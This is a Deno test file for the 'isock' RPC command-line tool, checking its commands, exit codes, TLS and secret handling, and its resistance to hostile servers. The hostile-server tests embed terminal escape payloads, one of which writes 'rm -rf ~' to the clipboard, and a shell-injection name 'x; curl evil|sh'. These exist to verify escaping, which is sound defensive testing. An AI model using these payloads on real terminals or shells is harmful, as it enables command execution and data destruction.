/**
 * The `isock` command line, run as a subprocess against real servers
 * started here: ls, describe, call (every input form, streams both ways),
 * ping, TLS and secret flags, reflection off, and every exit code, with
 * one line on stderr and never a stack trace; and against hostile servers
 * (terminal escapes in every string, a schema that explodes, 200,000
 * actions).
 */

import assert from "node:assert/strict";
import { z } from "zod";
import { action, Client, Server, type ServerOptions } from "../mod.ts";
import {
  CONTROL_BYTES,
  ESCAPES,
  explodingAction,
  HOSTILE_NAME,
  hostileActions,
  hostileServer,
  manyActions,
  rawDescribeServer,
  rawErrorServer,
  SHELL_NAME,
} from "./hostile_server.ts";
import { type CliOutcome as Outcome, runCli, spawnCli } from "./helpers.ts";

const TLS_DIR = new URL("./fixtures/tls/", import.meta.url);
const CERT_PATH = new URL("cert.pem", TLS_DIR).pathname;
const KEY_PATH = new URL("key.pem", TLS_DIR).pathname;
/** Data and secret files (tests may not write files). */
const FIXTURES = new URL("./fixtures/cli/", import.meta.url).pathname;

const releases: (() => void)[] = [];
const ACTIONS = [
  action(
    "add",
    { input: z.tuple([z.number(), z.number()]), output: z.number() },
    ([a, b]) => a + b,
  ),
  action(
    "point",
    {
      input: z.object({
        x: z.number(),
        y: z.number(),
        label: z.string().optional(),
      }),
      idempotent: true,
    },
    (p) => ({ ...p, norm: Math.hypot(p.x, p.y) }),
  ),
  action("echo", (data: unknown) => data),
  action("fail", (): never => {
    throw new RangeError("out of range");
  }),
  action("slow", (_: unknown, context) =>
    new Promise((resolve) => {
      const timer = setTimeout(() => resolve("late"), 30_000);
      context.signal.addEventListener("abort", () => clearTimeout(timer));
    })),
  action("count", async function* (to: number) {
    for (let n = 1; n <= to; n++) yield n;
  }),
  action("gate", async function* (_: unknown, context) {
    yield "first";
    // Ends only once the test calls "release": the first line must be out
    // before then.
    await new Promise<void>((resolve) => {
      releases.push(resolve);
      context.signal.addEventListener("abort", () => resolve());
    });
    yield "last";
  }),
  action("release", () => {
    const count = releases.length;
    for (const resolve of releases.splice(0)) resolve();
    return count;
  }),
  action("sum", async (numbers: AsyncIterable<number>) => {
    let total = 0;
    let items = 0;
    for await (const n of numbers) {
      total += n;
      items++;
    }
    return { total, items };
  }),
  action("when", (date: Date) => ({
    iso: date.toISOString(),
    big: 2n ** 70n,
  })),
  action("whoami", (_: unknown, context) => context.metadata.get("x-user")),
];

async function startServer(
  options: ServerOptions = {},
): Promise<Server & { target: string }> {
  const server = new Server({ hostname: "127.0.0.1", port: 0, ...options });
  for (const item of ACTIONS) server.addAction(item as never);
  const { port } = await server.listen();
  return Object.assign(server, { target: `127.0.0.1:${port}` });
}

/** What a run of the CLI may take: V8's heap, and time before it is killed. */
interface Limits {
  heapMiB?: number;
  deadlineMs?: number;
}

function spawn(args: string[]): Deno.ChildProcess {
  return spawnCli(args, { stdin: "" });
}

/** Runs the CLI (killed at its deadline), and checks its stderr is clean. */
async function isock(
  args: string[],
  stdin = "",
  env: Record<string, string> = {},
  limits: Limits = {},
): Promise<Outcome> {
  const outcome = await runCli(args, { stdin, env, ...limits });
  assertCleanStderr(outcome);
  return outcome;
}

/** Every failure is one line on stderr, never a stack trace. */
function assertCleanStderr(outcome: Outcome): void {
  assert.doesNotMatch(outcome.stderr, /^\s+at /m, outcome.stderr);
  if (outcome.code === 0) {
    assert.equal(outcome.stderr, "");
  } else {
    assert.equal(
      outcome.stderr.trimEnd().split("\n").length,
      1,
      outcome.stderr,
    );
  }
}

function lines(text: string): string[] {
  return text.split("\n").filter((line) => line !== "");
}

Deno.test("cli: ls lists actions with and without schemas, --json in full", async () => {
  await using server = await startServer();
  const [plain, json] = await Promise.all([
    isock(["ls", server.target]),
    isock(["ls", server.target, "--json"]),
  ]);
  assert.equal(plain.code, 0);
  const rows = lines(plain.stdout);
  assert.equal(rows.length, ACTIONS.length);
  assert.match(rows[0], /^add\s+call\s+-\s+\[number, number\] → number$/);
  assert.match(
    rows[1],
    /^point\s+call\s+idempotent\s+\{x: number, y: number, label\?: string\} → any$/,
  );
  assert.match(rows[2], /^echo\s+call\s+-\s+any → any$/);
  assert.match(rows[5], /^count\s+stream\s+/);
  const description = JSON.parse(json.stdout);
  assert.equal(description.version, 1);
  assert.deepEqual(description.actions[0].output, {
    $schema: "https://json-schema.org/draft/2020-12/schema",
    type: "number",
  });
});

Deno.test("cli: describe shows the schemas and a template that call accepts", async () => {
  await using server = await startServer();
  const text = await isock(["describe", server.target, "point"]);
  assert.equal(text.code, 0);
  assert.match(text.stdout, /"required": \[\s+"x",\s+"y"\s+\]/);
  assert.match(text.stdout, /data template/);
  const json = await isock(["describe", server.target, "point", "--json"]);
  const { template } = JSON.parse(json.stdout);
  assert.deepEqual(template, { x: 0, y: 0, label: "" });
  // point.json is that template, edited.
  const edited = JSON.parse(
    await Deno.readTextFile(`${FIXTURES}point.json`),
  );
  assert.deepEqual(Object.keys(edited), Object.keys(template));
  const called = await isock([
    "call",
    server.target,
    "point",
    `@${FIXTURES}point.json`,
  ]);
  assert.equal(called.code, 0);
  assert.deepEqual(JSON.parse(called.stdout), {
    x: 3,
    y: 4,
    label: "",
    norm: 5,
  });
  const noSchema = await isock(["describe", server.target, "echo"]);
  assert.match(noSchema.stdout, /input schema:\n {2}\(none/);
  const unknown = await isock(["describe", server.target, "nope"]);
  assert.equal(unknown.code, 1);
  assert.match(
    unknown.stderr,
    /^isock: UNKNOWN_ACTION: No action named "nope"/,
  );
});

Deno.test("cli: call takes DATA as JSON, @file, stdin, or none", async () => {
  await using server = await startServer();
  const file = `${FIXTURES}data.json`;
  {
    const [literal, fromFile, fromStdin, none] = await Promise.all([
      isock(["call", server.target, "add", "[1, 2]"]),
      isock(["call", server.target, "echo", `@${file}`]),
      isock(["call", server.target, "echo", "-"], '{"from": "stdin"}\n'),
      isock(["call", server.target, "release"]),
    ]);
    assert.deepEqual(
      [literal, fromFile, fromStdin, none].map((outcome) => outcome.code),
      [0, 0, 0, 0],
    );
    assert.equal(literal.stdout, "3\n");
    assert.equal(fromFile.stdout, '{"from":"file"}\n');
    assert.equal(fromStdin.stdout, '{"from":"stdin"}\n');
    assert.equal(none.stdout, "0\n");
  }
});

Deno.test("cli: call carries rich values through the JSON mapping", async () => {
  await using server = await startServer();
  const outcome = await isock([
    "call",
    server.target,
    "when",
    '{"$date": "2024-01-01T00:00:00.000Z"}',
  ]);
  assert.equal(outcome.code, 0);
  const result = JSON.parse(outcome.stdout);
  // The Date arrived as a Date, and the bigint came back tagged.
  assert.equal(result.iso, "2024-01-01T00:00:00.000Z");
  assert.match(JSON.stringify(result.big), /1180591620717411303424/);
});

Deno.test("cli: a 1,000-item stream prints 1,000 lines", async () => {
  await using server = await startServer();
  const outcome = await isock(["call", server.target, "count", "1000"]);
  assert.equal(outcome.code, 0);
  const items = lines(outcome.stdout);
  assert.equal(items.length, 1000);
  assert.deepEqual(
    items.map(Number),
    Array.from({ length: 1000 }, (_, i) => i + 1),
  );
});

Deno.test("cli: a stream's first line appears before the stream ends", async () => {
  await using server = await startServer();
  await using client = new Client({
    hostname: "127.0.0.1",
    port: server.addr!.port,
  });
  const child = spawn(["call", server.target, "gate"]);
  await child.stdin.close();
  const reader = child.stdout.pipeThrough(new TextDecoderStream()).getReader();
  let seen = "";
  while (!seen.includes("\n")) {
    const { value, done } = await reader.read();
    assert.equal(done, false, "the stream ended before its first line");
    seen += value;
  }
  assert.equal(seen, '"first"\n');
  // The stream is still open on the server: release it, then it ends.
  assert.equal(await client.runAction("release"), 1);
  while (true) {
    const { value, done } = await reader.read();
    if (done) break;
    seen += value;
  }
  assert.equal(seen, '"first"\n"last"\n');
  const status = await child.status;
  await child.stderr.cancel();
  assert.equal(status.code, 0);
});

Deno.test("cli: --input-stream sends stdin's NDJSON as the input stream", async () => {
  await using server = await startServer();
  const numbers = Array.from({ length: 100 }, (_, i) => i + 1).join("\n");
  const outcome = await isock(
    ["call", server.target, "sum", "--input-stream"],
    `${numbers}\n\n`,
  );
  assert.equal(outcome.code, 0);
  assert.deepEqual(JSON.parse(outcome.stdout), { total: 5050, items: 100 });
  const bad = await isock(
    ["call", server.target, "sum", "--input-stream"],
    "1\n2\n{oops\n4\n",
  );
  assert.equal(bad.code, 3);
  assert.match(
    bad.stderr,
    /^isock: INVALID_JSON: stdin line 3 is not valid JSON/,
  );
});

Deno.test("cli: ping prints each round trip and min/avg/max", async () => {
  await using server = await startServer();
  const [text, json] = await Promise.all([
    isock(["ping", server.target, "-c", "3", "-i", "10ms"]),
    isock(["ping", server.target, "-c", "2", "-i", "10ms", "--json"]),
  ]);
  assert.equal(text.code, 0);
  assert.equal(
    lines(text.stdout).filter((line) => line.startsWith("reply from")).length,
    3,
  );
  assert.match(text.stdout, /3 requests, 3 replies, 0% lost/);
  assert.match(text.stdout, /min\/avg\/max = [\d.]+\/[\d.]+\/[\d.]+ ms/);
  const stats = JSON.parse(json.stdout);
  assert.equal(stats.received, 2);
  assert.ok(stats.minMs <= stats.avgMs && stats.avgMs <= stats.maxMs);
});

Deno.test("cli: each kind of failure has its exit code and one clear line", async () => {
  await using server = await startServer();
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const closedPort = listener.addr.port;
  listener.close();
  const cases: [string[], number, RegExp][] = [
    [["frobnicate"], 2, /^isock: USAGE: Unknown command "frobnicate"/],
    [
      ["ls", server.target, "--bogus"],
      2,
      /^isock: USAGE: Unknown flag --bogus/,
    ],
    [["ls", "nohost"], 2, /^isock: USAGE: TARGET "nohost"/],
    [
      ["call", server.target],
      2,
      /^isock: USAGE: isock call takes TARGET ACTION/,
    ],
    [["ls", server.target, "--timeout", "soon"], 2, /USAGE: --timeout takes/],
    [["ls", `127.0.0.1:${closedPort}`], 4, /^isock: CONNECT_FAILED: /],
    [
      ["call", server.target, "fail"],
      1,
      /^isock: ACTION_FAILED: RangeError: out of range$/,
    ],
    [["call", server.target, "nope"], 1, /^isock: UNKNOWN_ACTION: /],
    [
      ["call", server.target, "add", "[1,"],
      3,
      /^isock: INVALID_JSON: DATA is not valid JSON/,
    ],
    [
      ["call", server.target, "add", '[1, "two"]'],
      3,
      /^isock: INVALID_INPUT: Invalid input for "add": 1: /,
    ],
    [
      ["call", server.target, "echo", "@/nonexistent/data.json"],
      3,
      /^isock: UNREADABLE: Cannot read/,
    ],
    [
      ["call", server.target, "slow", "--timeout", "200ms"],
      5,
      /^isock: TIMEOUT: /,
    ],
  ];
  const outcomes = await Promise.all(cases.map(([args]) => isock(args)));
  outcomes.forEach((outcome, index) => {
    const [args, code, pattern] = cases[index];
    assert.equal(outcome.code, code, `${args.join(" ")}: ${outcome.stderr}`);
    assert.match(outcome.stderr.trimEnd(), pattern);
    assert.equal(outcome.stdout, "");
  });
});

Deno.test("cli: --json makes errors one JSON line with the code and exit code", async () => {
  await using server = await startServer();
  const outcome = await isock([
    "call",
    server.target,
    "add",
    '["x", 2]',
    "--json",
  ]);
  assert.equal(outcome.code, 3);
  const { error } = JSON.parse(outcome.stderr);
  assert.equal(error.code, "INVALID_INPUT");
  assert.equal(error.exitCode, 3);
  assert.deepEqual(error.issues[0].path, [0]);
});

Deno.test("cli: --help on every command, with examples and the exit codes", async () => {
  const outcomes = await Promise.all(
    [[], ["--help"], ["ls", "-h"], ["describe", "--help"], ["call", "--help"], [
      "ping",
      "--help",
    ]].map((args) => isock(args)),
  );
  for (const outcome of outcomes) {
    assert.equal(outcome.code, 0);
    assert.match(outcome.stdout, /Examples:/);
    assert.match(outcome.stdout, /Exit codes:\n {2}0 {3}success/);
  }
});

Deno.test("cli: TLS with --ca, --insecure-skip-verify, and a certificate not trusted", async () => {
  const tls = {
    cert: await Deno.readTextFile(CERT_PATH),
    key: await Deno.readTextFile(KEY_PATH),
  };
  await using server = await startServer({ tls });
  const target = `tls://localhost:${server.addr!.port}`;
  const [trusted, skipped, untrusted, plain] = await Promise.all([
    isock(["call", target, "add", "[2, 2]", "--ca", CERT_PATH]),
    isock(["call", target, "add", "[2, 3]", "--insecure-skip-verify"]),
    isock(["call", target, "add", "[2, 4]"]),
    isock([
      "call",
      `localhost:${server.addr!.port}`,
      "add",
      "[1, 1]",
      "--timeout",
      "2s",
    ]),
  ]);
  assert.equal(trusted.stdout, "4\n");
  assert.equal(skipped.stdout, "5\n");
  assert.equal(untrusted.code, 4);
  assert.match(untrusted.stderr, /^isock: TLS_FAILED: /);
  // Plain TCP to a TLS server: no hello comes back.
  assert.equal(plain.code, 4);
});

Deno.test("cli: the secret from --secret, --secret-file or ISOCK_SECRET; a wrong one is refused unechoed", async () => {
  const secret = "correct horse battery staple";
  await using server = await startServer({ secret });
  const file = `${FIXTURES}secret.txt`;
  {
    const [flag, fromFile, fromEnv, wrong, missing] = await Promise.all([
      isock(["call", server.target, "add", "[1, 1]", "--secret", secret]),
      isock(["call", server.target, "add", "[1, 2]", "--secret-file", file]),
      isock(["call", server.target, "add", "[1, 3]"], "", {
        ISOCK_SECRET: secret,
      }),
      isock(["call", server.target, "add", "[1, 4]", "--secret", "hunter2"]),
      isock(["call", server.target, "add", "[1, 5]"]),
    ]);
    assert.deepEqual(
      [flag.stdout, fromFile.stdout, fromEnv.stdout],
      ["2\n", "3\n", "4\n"],
    );
    for (const refused of [wrong, missing]) {
      assert.equal(refused.code, 4);
      assert.match(refused.stderr, /^isock: UNAUTHORIZED: /);
    }
    assert.doesNotMatch(wrong.stderr, /hunter2/);
  }
});

Deno.test("cli: a server with reflection: false cannot be listed, but can be called", async () => {
  await using server = await startServer({ reflection: false });
  const [listed, called] = await Promise.all([
    isock(["ls", server.target]),
    isock(["call", server.target, "add", "[20, 22]"]),
  ]);
  assert.equal(listed.code, 1);
  assert.match(
    listed.stderr,
    /^isock: UNKNOWN_ACTION: .* does not answer describe requests: it runs with reflection: false/,
  );
  assert.equal(called.stdout, "42\n");
});

Deno.test("cli: --metadata (repeatable, -m) sends call metadata; a malformed pair is a usage error", async () => {
  await using server = await startServer();
  const sent = await isock([
    "call",
    server.target,
    "whoami",
    "--metadata",
    "X-User=ada",
    "-m",
    "x-trace=1",
  ]);
  assert.equal(sent.code, 0, sent.stderr);
  assert.equal(sent.stdout.trim(), '"ada"');
  const malformed = await isock([
    "call",
    server.target,
    "whoami",
    "-m",
    "novalue",
  ]);
  assert.equal(malformed.code, 2);
  assert.match(malformed.stderr, /^isock: USAGE: .*key=value/);
  const badKey = await isock([
    "call",
    server.target,
    "whoami",
    "-m",
    "bad key=1",
  ]);
  assert.equal(badKey.code, 2, badKey.stderr);
  assert.match(badKey.stderr, /^isock: INVALID_METADATA: /);
});

/** ESCAPES as the CLI shows it: every control as a visible escape. */
const SHOWN =
  "\\x1b]0;pwned\\x07\\x1b]52;c;cm0gLXJmIH4=\\x07\\x1b[2J\\x07\\r\\u009b31m\\x7f" +
  "\\u202e\\u2066\\u200b\\ufeff\\u2028\\u2029\\\\x1b";

function assertNoControls(outcome: Outcome, what: string): void {
  for (const [stream, text] of Object.entries(outcome)) {
    if (typeof text !== "string") continue;
    assert.doesNotMatch(text, CONTROL_BYTES, `${what}: ${stream}: ${text}`);
  }
}

Deno.test("cli: a hostile server's names, schemas and errors are printed escaped", async () => {
  await using server = await hostileServer(hostileActions());
  const { target } = server;
  const runs = {
    ls: ["ls", target],
    lsJson: ["ls", target, "--json"],
    describe: ["describe", target, HOSTILE_NAME],
    describeJson: ["describe", target, HOSTILE_NAME, "--json"],
    describeShell: ["describe", target, SHELL_NAME],
    fails: ["call", target, HOSTILE_NAME, "{}"],
    failsJson: ["call", target, HOSTILE_NAME, "{}", "--json"],
    refused: ["call", target, "refuses", '"x"', "--json"],
    result: ["call", target, "says"],
  };
  const outcomes = Object.fromEntries(
    await Promise.all(
      Object.entries(runs).map(async ([name, args]) =>
        [name, await isock(args)] as const
      ),
    ),
  );
  for (const [name, outcome] of Object.entries(outcomes)) {
    assertNoControls(outcome, name);
  }
  const { ls, lsJson, describe, describeJson, fails, failsJson } = outcomes;
  assert.equal(ls.code, 0);
  assert.ok(ls.stdout.startsWith(`evil${SHOWN}name  call`), ls.stdout);
  assert.match(ls.stdout, /\{key\\x1b\]0;pwned/);
  // JSON escapes stand for the same strings.
  assert.equal(JSON.parse(lsJson.stdout).actions[0].name, HOSTILE_NAME);
  assert.equal(describe.code, 0);
  assert.ok(describe.stdout.startsWith(`evil${SHOWN}name: call`));
  assert.ok(
    describe.stdout.includes(`isock call TARGET 'evil${SHOWN}name' @file`),
    describe.stdout,
  );
  // A name a shell would run is shown quoted, as one word.
  assert.ok(
    outcomes.describeShell.stdout.includes(
      `isock call TARGET 'x; curl evil|sh '\\''quoted'\\''' @file`,
    ),
    outcomes.describeShell.stdout,
  );
  const described = JSON.parse(describeJson.stdout);
  assert.equal(described.input.description, `multi\nline ${ESCAPES}`);
  assert.deepEqual(Object.keys(described.template), [
    `key${ESCAPES}`,
    `tag${ESCAPES}`,
  ]);
  assert.equal(fails.code, 1);
  assert.equal(
    fails.stderr,
    `isock: ACTION_FAILED: Name${SHOWN}: message line two ${SHOWN}\n`,
  );
  assert.deepEqual(JSON.parse(failsJson.stderr).error, {
    code: "ACTION_FAILED",
    message: `Name${ESCAPES}: message line two ${ESCAPES}`,
    exitCode: 1,
    remoteName: `Name${ESCAPES}`,
  });
  assert.equal(outcomes.refused.code, 3);
  assert.deepEqual(
    JSON.parse(outcomes.refused.stderr).error.issues[0].message,
    `issue${ESCAPES}`,
  );
  assert.deepEqual(JSON.parse(outcomes.result.stdout), {
    [`key${ESCAPES}`]: `value${ESCAPES}`,
  });
});

Deno.test("cli: an error whose every field is hostile is printed escaped, by call and ping", async () => {
  await using server = rawErrorServer();
  const outcomes = await Promise.all([
    isock(["call", server.target, "x"]),
    isock(["call", server.target, "x", "--json"]),
    isock(["ping", server.target, "-c", "1"]),
    isock(["ping", server.target, "-c", "1", "--json"]),
  ]);
  outcomes.forEach((outcome, index) => assertNoControls(outcome, `${index}`));
  const [call, callJson, ping, pingJson] = outcomes;
  assert.equal(call.stderr, `isock: CODE${SHOWN}: message${SHOWN}\n`);
  assert.deepEqual(JSON.parse(callJson.stderr).error.issues, [
    { message: `issue${ESCAPES}`, path: [`path${ESCAPES}`] },
  ]);
  assert.ok(
    ping.stdout.includes(`seq=1 message${SHOWN}\n`),
    ping.stdout,
  );
  assert.equal(ping.stderr, call.stderr);
  assert.equal(JSON.parse(pingJson.stderr).error.code, `CODE${ESCAPES}`);
});

Deno.test("cli: a description holding what JSON cannot (bigints, dates, bytes) is still printed", async () => {
  const input = {
    type: "object",
    properties: { n: { const: 10n }, big: { default: 2n ** 70n } },
  };
  const output = {
    enum: [10n, new Date(0), new Uint8Array([1, 2]), new Map([[1, 2]])],
  };
  await using server = rawDescribeServer({
    version: 1,
    actions: [
      {
        name: `odd${ESCAPES}`,
        idempotent: false,
        streams: false,
        input,
        output,
      },
      {
        name: "odder",
        idempotent: 1,
        streams: "yes",
        input: "no",
        output: [1],
      },
    ],
  });
  const name = `odd${ESCAPES}`;
  const [ls, lsJson, describe, describeJson] = await Promise.all([
    isock(["ls", server.target]),
    isock(["ls", server.target, "--json"]),
    isock(["describe", server.target, name]),
    isock(["describe", server.target, name, "--json"]),
  ]);
  for (const outcome of [ls, lsJson, describe, describeJson]) {
    assert.equal(outcome.code, 0, outcome.stderr);
    assertNoControls(outcome, outcome.stdout);
  }
  assert.equal(
    ls.stdout,
    `odd${SHOWN}  call    -           {n?: 10, big?: any} → 10 | {} | {…} | {}\n` +
      // Padded to 40 characters, not to the long name's width.
      `${"odder".padEnd(40)}  stream  idempotent  any → any\n`,
  );
  // The JSON is isock's JSON mapping, as `call --json` prints results.
  const mapped = [
    { $bigint: "10" },
    { $date: "1970-01-01T00:00:00.000Z" },
    { $bytes: "AQI=" },
    { $map: [[1, 2]] },
  ];
  const [first] = JSON.parse(lsJson.stdout).actions;
  assert.deepEqual(first.input.properties.n, { const: { $bigint: "10" } });
  assert.deepEqual(first.output.enum, mapped);
  assert.match(describe.stdout, /"\$bigint": "1180591620717411303424"/);
  assert.match(describe.stdout, /"\$map": \[/);
  const described = JSON.parse(describeJson.stdout);
  assert.deepEqual(described.output.enum, mapped);
  assert.deepEqual(described.template, {
    n: { $bigint: "10" },
    big: { $bigint: "1180591620717411303424" },
  });
});

Deno.test("cli: ls and describe summarise an exploding schema at once, in little memory", async () => {
  await using server = await hostileServer([explodingAction()]);
  // 256 MiB of heap and 30 s, where walking the schema whole took 4.5 GB
  // and a minute.
  const limits = { heapMiB: 256, deadlineMs: 30_000 };
  const [ls, describe] = await Promise.all([
    isock(["ls", server.target], "", {}, limits),
    isock(["describe", server.target, "exploding"], "", {}, limits),
  ]);
  assert.equal(ls.code, 0, ls.stderr);
  // Twelve times "array" is one array: each level is shown once.
  const shape = "string[][][][][][][][]";
  assert.equal(ls.stdout, `exploding  call  -  ${shape} → ${shape}\n`);
  assert.equal(describe.code, 0, describe.stderr);
  assert.ok(describe.stdout.includes(`\n  input:  ${shape}\n`));
  assert.ok(describe.stdout.length < 64 * 1024);
});

Deno.test("cli: ls of 200,000 actions lists the first 1,000 and says how many", async () => {
  // The first one's name is 100,000 characters: shown, but no other row is
  // padded to its width.
  const long = "n".repeat(100_000);
  await using server = await hostileServer([
    action(long, () => null),
    ...manyActions(200_000 - 1),
  ] as never);
  const [ls, json] = await Promise.all([
    isock(["ls", server.target]),
    isock(["ls", server.target, "--json"]),
  ]);
  assert.equal(ls.code, 0, ls.stderr);
  const rows = lines(ls.stdout);
  assert.equal(rows.length, 1001);
  assert.ok(rows[0].startsWith(`${long}  call`));
  assert.match(rows[999], /^a998\s+call\s+-\s+any → any$/);
  assert.ok(ls.stdout.length < 200_000, `${ls.stdout.length} characters`);
  assert.match(rows[1000], /^200000 actions; showing the first 1000 /);
  assert.equal(json.code, 0, json.stderr);
  assert.equal(JSON.parse(json.stdout).actions.length, 200_000);
});
